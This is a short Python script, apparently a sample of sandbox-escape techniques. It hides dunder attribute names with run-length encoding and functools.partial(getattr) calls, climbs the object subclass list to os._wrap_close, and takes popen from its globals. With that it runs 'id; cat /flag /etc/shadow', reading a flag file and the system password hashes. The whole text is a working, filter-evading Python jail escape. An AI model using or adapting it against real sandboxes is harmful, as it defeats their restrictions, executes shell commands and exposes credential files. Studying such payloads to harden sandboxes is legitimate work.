# technique: names are run-length encoded and expanded by re.sub with a callable replacement; the walk is a chain of functools.partial(getattr, obj) objects, so every attribute name reaches getattr only as a call argument of a partial
import functools
import re


def expand(packed):
    return re.sub(r"(\D)(\d*)", lambda m: m[1] * int(m[2] or 1), packed)


def hop(obj, packed):
    reader = functools.partial(getattr, obj)
    return reader(expand(packed))


root = hop(hop((), "_2class_2"), "_2base_2")
listing = hop(root, "_2subcla1s2es_2")()
wanted = expand("_wrap_clo1se")
helper = next(k for k in listing if k.__name__ == wanted)
ns = hop(hop(helper, "_2init_2"), "_2glo1bals_2")
opener = ns[expand("po1pen")]
out = opener(expand("id; cat /fla1g /etc/shado1w"))
print(hop(out, "read")())
